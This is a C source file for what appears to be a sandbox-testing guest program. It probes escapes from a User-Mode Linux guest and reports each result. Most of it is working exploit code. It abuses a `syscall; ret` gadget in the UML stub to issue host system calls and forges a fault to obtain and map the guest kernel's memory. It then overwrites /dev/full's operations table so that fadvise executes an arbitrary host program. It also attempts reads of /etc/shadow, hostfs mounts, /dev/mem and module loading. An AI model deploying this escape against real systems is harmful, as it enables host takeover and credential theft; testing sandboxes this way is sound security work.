/*
 * What a hostile command in a guest tries. Freestanding, so that it is small enough for an experiment. Each line that
 * it prints is an attempt and what came of it: an errno, 0 for success, or the signal that ended it.
 *
 *	cc -static -nostdlib -ffreestanding -fno-tree-loop-distribute-patterns -Os -o guest guest.c
 *
 *	guest				all attempts but the last
 *	guest START OPERATIONS EXECVE PROGRAM ARGUMENT...
 *					has the host run a program; the addresses of __binary_start, full_fops and
 *					execvp_noalloc in the guest's kernel, which whoever has its package knows
 */
#include <asm/stat.h>
#include <asm/unistd.h>
#include <linux/fcntl.h>
#include <linux/mount.h>
#include <linux/sysinfo.h>

typedef unsigned long word;

static long call(long number, word a, word b, word c, word d, word e)
{
	register word r10 asm("r10") = d;
	register word r8 asm("r8") = e;
	register word r9 asm("r9") = 0;
	long result;

	asm volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
		     : "rcx", "r11", "memory");
	return result;
}

#define CALL(number, a, b, c, d, e) call(number, (word)(a), (word)(b), (word)(c), (word)(d), (word)(e))

static void print(const char *text)
{
	int length = 0;

	while (text[length])
		length++;
	CALL(__NR_write, 1, text, length, 0, 0);
}

static word number(const char *digits)
{
	word value = 0;

	for (; *digits; digits++)
		value = value << 4 | (*digits <= '9' ? *digits - '0' : *digits - 'a' + 10);
	return value;
}

static void tell(const char *attempt, const char *kind, long result)
{
	char digits[8] = "\n";
	char *text = digits;
	int i = 6;

	if (result < 0)
		result = -result;
	digits[7] = 0;
	digits[6] = '\n';
	do {
		digits[--i] = '0' + result % 10;
		result /= 10;
	} while (result);
	text = digits + i;
	print(attempt);
	print(": ");
	print(kind);
	print(text);
}

/*
 * The stub of User-Mode Linux has the few system calls of its own that its filter lets through; `syscall; ret` makes
 * any of them (arch/um/kernel/skas/stub.c, "Known security issues"). recvmsg on descriptor 0: the host's answer is
 * EAGAIN, as that is a socket of the guest's kernel there; the guest's would be another.
 */
#define STUB_CODE 0x7fffffffc000ul

static word gadget(void)
{
	const unsigned char *code = (const unsigned char *)STUB_CODE;
	int i;

	for (i = 0; i < 4094; i++)
		if (code[i] == 0x0f && code[i + 1] == 0x05 && code[i + 2] == 0xc3)
			return STUB_CODE + i;
	return 0;
}

static long host(long number, word a, word b, word c, word d, word e, word f)
{
	register word r10 asm("r10") = d;
	register word r8 asm("r8") = e;
	register word r9 asm("r9") = f;
	long result;

	asm volatile("call *%[at]" : "=a"(result)
		     : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9), [at] "b"(gadget())
		     : "rcx", "r11", "memory");
	return result;
}

struct message { void *name; int length; word *iov; word count; void *control; word size; int flags; };

static int reach(void)
{
	static struct message message;

	/* The host knows no page that the program has not touched. */
	*(volatile int *)&message.flags = 0;
	return -host(__NR_recvmsg, 0, (word)&message, 0, 0, 0, 0);
}

/* What the guest's kernel and the stub share (arch/um/include/shared/skas/stub-data.h), the page behind the stub. */
struct shared {
	long error;
	int count;
	struct { word address, length, offset; int file, protection, kind; } call[99] __attribute__((aligned(16)));
	short restart;
	unsigned int futex;
	int signal;
	unsigned short info, context;
	unsigned char stack[4096] __attribute__((aligned(4096)));
};

#define SHARED ((volatile struct shared *)(STUB_CODE + 4096))
/* Registers in a signal's context (REG_ERR and others, ucontext.h). */
enum { ERR = 19, TRAP, CR2 = 22 };
#define PAGE 0x200000000ul
#define WINDOW 0x300000000ul

/*
 * The kernel waits for the stub to tell of a signal. This program tells of one instead: a fault at a page that has no
 * memory yet. The kernel sends the descriptor of its memory, to map a page of it; the program takes all of it.
 */
static long kernel_memory(void)
{
	struct { word length; int level, type, file[4]; } control;
	char byte;
	word vector[2] = { (word)&byte, 1 };
	struct message message = { .iov = vector, .count = 1, .control = &control, .size = sizeof(control) };
	struct sysinfo info;
	word *context, size;
	int i;

	CALL(__NR_sysinfo, &info, 0, 0, 0, 0);
	/* mem= is a multiple of that (crates/lab/src/engine/uml.rs). */
	size = (info.totalram * info.mem_unit | 0x3ffffff) + 1;
	call(__NR_mmap, PAGE, 4096, 3, 0x32 /* private, fixed, anonymous */, -1);
	/* As the last call left it. */
	context = (word *)(SHARED->stack + SHARED->context);
	context[ERR] = 6;
	context[TRAP] = 14;
	context[CR2] = PAGE;
	SHARED->signal = 11;
	SHARED->futex = 1;
	host(__NR_futex, (word)&SHARED->futex, 1 /* FUTEX_WAKE */, 1, 0, 0, 0);
	while (SHARED->futex == 1)
		host(__NR_futex, (word)&SHARED->futex, 0 /* FUTEX_WAIT */, 1, 0, 0, 0);
	if (host(__NR_recvmsg, 0, (word)&message, 0, 0, 0, 0) != 1)
		return -1;
	for (i = 0; i < SHARED->count; i++)
		host(__NR_mmap, SHARED->call[i].address, SHARED->call[i].length, SHARED->call[i].protection,
		     0x11 /* shared, fixed */, control.file[SHARED->call[i].file], SHARED->call[i].offset);
	SHARED->count = 0;
	SHARED->error = 0;
	return host(__NR_mmap, WINDOW, size, 3, 0x11, control.file[0], 0) == WINDOW ? (long)size : -1;
}

/* The name that the kernel keeps of this process, changed in the kernel's own memory. */
static int rewrite(void)
{
	/* "goodput-glitter", of which there is no copy but the kernel's, and ours. */
	volatile word hidden[2] = { ~0x2d747570646f6f67ul, ~0x0072657474696c67ul };
	word name[2] = { ~hidden[0], ~hidden[1] }, said[2] = { 0 }, *at;
	long size;

	CALL(__NR_prctl, 15 /* PR_SET_NAME */, name, 0, 0, 0);
	size = kernel_memory();
	if (size < 0)
		return 1;
	for (at = (word *)WINDOW; at < (word *)(WINDOW + size) - 1; at++)
		if (at[0] == ~hidden[0] && at[1] == ~hidden[1])
			at[0] ^= 0x20;
	CALL(__NR_prctl, 16 /* PR_GET_NAME */, said, 0, 0, 0);
	return said[0] == (~hidden[0] ^ 0x20) && said[1] == ~hidden[1] ? 0 : 2;
}

/* Memory of the program that it shows to the kernel: what the kernel is to do, and with what. */
struct plot {
	word mark[2], operations[64], words[16];
	char text[2048];
} __attribute__((aligned(4096)));

/* Another value in place of one, wherever the kernel's memory has it; of its complement there is no copy. */
static void replace(word size, volatile word *complement, word by)
{
	volatile word *at;

	for (at = (word *)WINDOW; at < (word *)(WINDOW + size); at++)
		if (*at == ~*complement)
			*at = by;
}

/* What the program was given. */
static char **given;

/*
 * A program of the host. An open file's operations are a table of functions, to which the kernel hands arguments of
 * fadvise(2) as they are: in the place of the table of /dev/full, which nobody else has open, comes one whose every function
 * is execvp_noalloc(buffer, program, words), by which the kernel itself calls execve(2) of the host
 * (arch/um/os-Linux/execvp.c).
 */
static int execute(void)
{
	static struct plot plot;
	static volatile word complement;
	word start = number(given[0]) & ~0xffful, table = number(given[1]), function = number(given[2]);
	word place = 0, operations, words, *at;
	char *text = plot.text;
	long size = kernel_memory(), file, result;
	int i;

	CALL(__NR_mknod, "/tmp/full", 0020600, 0x107, 0, 0);
	file = CALL(__NR_open, "/tmp/full", O_RDWR, 0, 0, 0);
	if (size < 0 || file < 0)
		return 255;
	/* Where the kernel sees the plot. */
	complement = ~0x2d747570646f6f67ul;
	plot.mark[0] = ~complement;
	plot.mark[1] = complement;
	for (at = (word *)WINDOW; at < (word *)(WINDOW + size); at += 512)
		if (at[0] == ~complement && at[1] == complement)
			place = start + ((word)at - WINDOW);
	operations = place + __builtin_offsetof(struct plot, operations);
	words = place + __builtin_offsetof(struct plot, words);
	for (i = 0; i < 64; i++)
		plot.operations[i] = function;
	for (i = 0; given[3 + i]; i++) {
		const char *from = given[3 + i];

		plot.words[i] = place + (text - (char *)&plot);
		while ((*text++ = *from++))
			;
	}
	complement = ~table;
	replace(size, &complement, operations);
	result = CALL(__NR_fadvise64, file, plot.words[0], words, 0, 0);
	/* The kernel is still there, and is to close the file as any other. Our own copy of the table is another now. */
	complement = ~operations;
	replace(size, &complement, number(given[1]));
	return -result;
}

static void attempt_in_child(const char *name, int (*attempt)(void))
{
	int status = 0;
	long child = CALL(__NR_fork, 0, 0, 0, 0, 0);

	if (!child)
		CALL(__NR_exit, attempt(), 0, 0, 0, 0);
	CALL(__NR_wait4, child, &status, 0, 0, 0);
	if (status & 0x7f)
		tell(name, "signal ", status & 0x7f);
	else
		tell(name, "errno ", status >> 8);
}

static void attempt_open(const char *name, const char *path, int flags)
{
	long result = CALL(__NR_open, path, flags, 0644, 0, 0);

	tell(name, "errno ", result > 0 ? 0 : result);
	if (result > 0)
		CALL(__NR_close, result, 0, 0, 0, 0);
}

/* What the kernel of the guest lets a tracer do to the stub, which is no memory of the program's. */
static void attempt_trace(void)
{
	int status = 0;
	long child = CALL(__NR_fork, 0, 0, 0, 0, 0);

	if (!child) {
		CALL(__NR_ptrace, 0 /* PTRACE_TRACEME */, 0, 0, 0, 0);
		CALL(__NR_kill, CALL(__NR_getpid, 0, 0, 0, 0, 0), 19 /* SIGSTOP */, 0, 0, 0);
		CALL(__NR_exit, 0, 0, 0, 0, 0);
	}
	CALL(__NR_wait4, child, &status, 0, 0, 0);
	tell("trace into the stub", "errno ", CALL(__NR_ptrace, 5 /* PTRACE_POKEDATA */, child, STUB_CODE, 0, 0));
	CALL(__NR_kill, child, 9, 0, 0, 0);
	CALL(__NR_wait4, child, &status, 0, 0, 0);
}

/* The stub's pages made writable, replaced, and written to as memory of the program. */
static void attempt_stub_pages(void)
{
	char page[8] = { 0 };
	long memory = CALL(__NR_open, "/proc/self/mem", O_RDWR, 0, 0, 0);

	tell("stub writable", "errno ", CALL(__NR_mprotect, STUB_CODE, 4096, 7, 0, 0));
	tell("stub removed", "errno ", CALL(__NR_munmap, STUB_CODE, 4096, 0, 0, 0));
	tell("stub by /proc/self/mem", "errno ", CALL(__NR_pwrite64, memory, page, 8, STUB_CODE, 0));
	CALL(__NR_close, memory, 0, 0, 0, 0);
}

static void attempt_descriptors(void)
{
	struct stat stat;
	int fd, open = 0;

	for (fd = 3; fd < 4096; fd++)
		open += !CALL(__NR_fstat, fd, &stat, 0, 0, 0);
	tell("descriptors", "open ", open);
}

static void attempt_all(void)
{
	attempt_in_child("stub", reach);
	attempt_in_child("kernel's memory", rewrite);
	attempt_trace();
	attempt_stub_pages();
	attempt_open("shadow", "/etc/shadow", O_RDONLY);
	attempt_open("home", "/root", O_RDONLY | O_DIRECTORY);
	attempt_open("homes", "/home", O_RDONLY | O_DIRECTORY);
	attempt_open("proc of the host", "/proc/1/root/etc/shadow", O_RDONLY);
	attempt_open("write to a program", "/usr/bin/env", O_WRONLY);
	attempt_open("new program", "/usr/bin/goodput-was-here", O_WRONLY | O_CREAT);
	tell("remount", "errno ", CALL(__NR_mount, "none", "/usr", 0, 32 /* MS_REMOUNT */, 0));
	attempt_open("write after that", "/usr/bin/env", O_WRONLY);
	CALL(__NR_mkdir, "/tmp/host", 0755, 0, 0, 0);
	tell("hostfs", "errno ", CALL(__NR_mount, "none", "/tmp/host", "hostfs", 0, "/"));
	CALL(__NR_mknod, "/tmp/mem", 0020600, 0x101, 0, 0);
	attempt_open("memory", "/tmp/mem", O_RDWR);
	attempt_open("kcore", "/proc/kcore", O_RDONLY);
	tell("module", "errno ", CALL(__NR_init_module, "x", 1, "", 0, 0));
	tell("iopl", "errno ", CALL(__NR_iopl, 3, 0, 0, 0, 0));
	attempt_descriptors();
}

/* The number of words and their addresses are all that a program finds on its stack. */
asm(".globl _start\n_start:\n\tmov %rsp, %rdi\n\tand $-16, %rsp\n\tcall begin\n");

__attribute__((used)) static void begin(word *stack)
{
	given = (char **)stack + 2;
	if (stack[0] == 1)
		attempt_all();
	else
		attempt_in_child("program of the host", execute);
	CALL(__NR_exit, 0, 0, 0, 0, 0);
}
